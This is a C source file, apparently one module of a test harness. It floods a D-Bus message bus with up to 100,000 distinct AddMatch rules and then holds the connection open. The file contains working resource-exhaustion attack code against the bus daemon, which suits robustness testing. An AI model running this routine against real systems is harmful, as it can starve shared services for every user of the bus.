#include "attacker.h"

#include <poll.h>
#include <stdio.h>

/* Asks the bus for so many kinds of signals that nobody sends, and stays. */
int run_rules(const struct options *options) {
    static struct peer peer;
    if (options->count > 100000) die("--count must be at most 100000");
    peer_open(&peer, options->bus);
    for (uint64_t number = 0; number < options->count; number++) {
        char rule[128];
        snprintf(rule, sizeof rule, "type='signal',interface='org.example.I%llu',member='M',arg0='%llu'",
                 (unsigned long long)number, (unsigned long long)number);
        const char *text = rule;
        DBusMessage *message = new_call(DBUS_SERVICE_DBUS, DBUS_PATH_DBUS, DBUS_INTERFACE_DBUS, "AddMatch");
        enough(dbus_message_append_args(message, DBUS_TYPE_STRING, &text, DBUS_TYPE_INVALID));
        uint32_t serial = peer_queue(&peer, message);
        /* Not more at once than a connection may have open. */
        if (number % 1000 != 999 && number + 1 < options->count) continue;
        DBusMessage *answer = peer_answer(&peer, serial, 60000000);
        if (answer == NULL || dbus_message_get_type(answer) == DBUS_MESSAGE_TYPE_ERROR) die("AddMatch: refused");
        dbus_message_unref(answer);
    }
    printf("listening\n");
    fflush(stdout);
    poll(NULL, 0, (int)options->seconds * 1000);
    return 0;
}
